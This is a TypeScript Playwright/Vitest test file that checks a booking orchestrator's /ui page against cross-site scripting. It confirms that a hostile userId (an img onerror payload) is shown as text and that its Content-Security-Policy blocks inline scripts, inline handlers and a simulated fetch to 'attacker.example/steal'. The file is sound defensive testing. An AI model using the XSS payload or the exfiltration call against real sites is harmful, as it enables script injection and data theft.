import { randomUUID } from 'node:crypto'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { configWith } from '../../platform/config.ts'
import { mintDevToken } from '../../orchestrator/src/cli/dev-token.ts'
import { command, isoDateInDays } from '../support/participant-harness.ts'
import { launchChromium } from '../support/browser.ts'
import { startSystem, TOKENS, type TestSystem } from '../support/system.ts'

// The page at /ui shows values that came from whoever started a saga. Every one is rendered as
// text, and the Content-Security-Policy forbids inline scripts and other origins besides, so a
// hostile value is shown, never run.

const HOSTILE = '<img src=x onerror=alert(1)>'

/**
 * The browser globals the page functions below use, typed here: the project compiles without
 * the DOM library (it is server code), and these functions run in Chromium, not in Node.
 */
interface Browserish {
  __violations: string[]
  inlineRan?: boolean
  handlerRan?: boolean
  document: {
    body: { append(node: unknown): void }
    createElement(tag: string): { textContent: string; src: string; setAttribute(name: string, value: string): void; remove(): void }
    addEventListener(type: 'securitypolicyviolation', listener: (event: { violatedDirective: string; blockedURI: string }) => void): void
  }
  getComputedStyle(node: unknown): { backgroundColor: string }
  fetch: typeof fetch
  setTimeout: typeof setTimeout
}

/** What a page did that it should not: dialogs opened, CSP violations reported. */
interface Watch { dialogs: string[]; violations: () => Promise<string[]> }

describe('the page at /ui with hostile values and its Content-Security-Policy', () => {
  let system: TestSystem
  let browser: Browser
  let base: string
  let sagaId: string
  // Unique per run, still hostile: the search must find this run's saga only.
  const userId = `${HOSTILE}${randomUUID().slice(0, 8)}`

  beforeAll(async () => {
    system = await startSystem()
    base = await system.orchestrator.listen({ port: 0, host: '127.0.0.1' })
    browser = await launchChromium()
    const tour = (await command(system.participant('tour-catalog'), 'POST', '/api/tours', {
      name: 'Hostile tour', date: isoDateInDays(30), capacity: 5, price: 40, currency: 'EUR', cancellationPolicy: { minDays: 3, feePercent: 0 },
    })).json()
    const response = await system.orchestrator.inject({
      method: 'POST', url: '/api/orchestrator/bookings',
      headers: { authorization: TOKENS.client, 'idempotency-key': randomUUID() },
      payload: { tourId: tour.tourId, userId, numberOfSpots: 1, paymentMethod: 'pm_card_visa' },
    })
    expect(response.statusCode).toBe(201)
    sagaId = response.json().sagaId
  })

  afterAll(async () => {
    await browser?.close()
    await system?.close()
  })

  async function openPage(): Promise<{ page: Page; watch: Watch }> {
    const page = await browser.newPage()
    const dialogs: string[] = []
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    // Init scripts are the browser's own, not the page's: the policy does not apply to them.
    await page.addInitScript(() => {
      const window = globalThis as unknown as Browserish
      const seen: string[] = []
      window.__violations = seen
      window.document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.violatedDirective} ${event.blockedURI}`))
    })
    return { page, watch: { dialogs, violations: () => page.evaluate(() => (globalThis as unknown as Browserish).__violations) } }
  }

  async function signIn(page: Page, token: string): Promise<void> {
    await page.goto(`${base}/ui`)
    await page.getByLabel('API token').fill(token)
    await page.getByRole('button', { name: 'Sign in' }).click()
    await expect.poll(() => page.locator('#who').textContent()).toMatch(/Signed in as/)
  }

  it('shows the hostile userId as text on the list and on the saga page: no dialog, no img element', async () => {
    const { page, watch } = await openPage()
    await signIn(page, 'dev-support')
    await page.getByLabel('User', { exact: true }).fill(userId)
    await page.getByRole('button', { name: 'Search' }).click()
    const row = page.locator('#rows tr', { hasText: sagaId.slice(0, 8) })
    await expect.poll(() => row.count()).toBe(1)
    expect(await row.locator('td').nth(2).textContent()).toBe(userId)
    expect(await page.locator('img').count()).toBe(0)

    await page.getByRole('link', { name: sagaId.slice(0, 8) }).click()
    const user = page.locator('#saga-facts dt', { hasText: /^User$/ }).locator('xpath=following-sibling::dd[1]')
    await expect.poll(() => user.textContent()).toBe(userId)
    await expect.poll(() => page.locator('#timeline li').count()).toBeGreaterThan(0)
    expect(await page.locator('img').count()).toBe(0)
    expect(watch.dialogs).toEqual([])
    // The page works under its policy: nothing it does itself is blocked.
    expect(await watch.violations()).toEqual([])
    await page.close()
  })

  it('signs an end user in with its JWT, shows its hostile id as text, and lists only its sagas', async () => {
    const token = await mintDevToken({ userId, config: configWith({ NODE_ENV: 'test', AUTH_JWT_SECRET: '', AUTH_JWKS_URL: '', AUTH_JWT_ISSUER: '', AUTH_JWT_AUDIENCE: '' }) })
    const { page, watch } = await openPage()
    await signIn(page, token)
    expect(await page.locator('#who').textContent()).toBe(`Signed in as user ${userId}`)
    await expect.poll(() => page.locator('#rows tr').count()).toBe(1)
    expect(await page.locator('#rows tr td').nth(2).textContent()).toBe(userId)
    expect(await page.locator('img').count()).toBe(0)
    expect(watch.dialogs).toEqual([])
    expect(await watch.violations()).toEqual([])
    await page.close()
  })

  it('serves /ui under a policy without inline scripts or other origins, and the page is still styled', async () => {
    const response = await fetch(`${base}/ui`)
    const policy = response.headers.get('content-security-policy') ?? ''
    const directives = Object.fromEntries(policy.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([name, ...values]) => [name, values.join(' ')]))
    expect(directives).toMatchObject({
      'default-src': "'none'", 'script-src': "'self'", 'style-src': "'self'", 'connect-src': "'self'", 'img-src': "'self'",
      'object-src': "'none'", 'base-uri': "'none'", 'frame-ancestors': "'none'", 'script-src-attr': "'none'",
    })
    expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|https:|\*/)

    const { page, watch } = await openPage()
    await page.goto(`${base}/ui`)
    // The stylesheet applies (no inline styles needed).
    expect(await page.locator('header.top').evaluate((node) => (globalThis as unknown as Browserish).getComputedStyle(node).backgroundColor)).toBe('rgb(31, 58, 95)')
    expect(await watch.violations()).toEqual([])
    // What a successful injection would try: an inline script, an inline handler, another origin.
    const attempted = await page.evaluate(async () => {
      const window = globalThis as unknown as Browserish
      const script = window.document.createElement('script')
      script.textContent = 'window.inlineRan = true'
      window.document.body.append(script)
      const img = window.document.createElement('img')
      img.setAttribute('onerror', 'window.handlerRan = true')
      img.src = 'x'
      window.document.body.append(img)
      const external = await window.fetch('https://attacker.example/steal').then(() => 'sent', () => 'blocked')
      await new Promise((resolve) => window.setTimeout(resolve, 200))
      img.remove()
      return { inline: window.inlineRan ?? false, handler: window.handlerRan ?? false, external }
    })
    expect(attempted).toEqual({ inline: false, handler: false, external: 'blocked' })
    const violations = await watch.violations()
    expect(violations.some((v) => v.startsWith('script-src'))).toBe(true)
    expect(violations.some((v) => v.startsWith('connect-src') && v.includes('attacker.example'))).toBe(true)
    expect(watch.dialogs).toEqual([])
    await page.close()
  })

  it('keeps the API docs page working under its own policy', async () => {
    const { page, watch } = await openPage()
    await page.goto(`${base}/docs`)
    await expect.poll(() => page.locator('.swagger-ui .info .title').count(), { timeout: 15_000 }).toBeGreaterThan(0)
    expect(await watch.violations()).toEqual([])
    await page.close()
  })
})
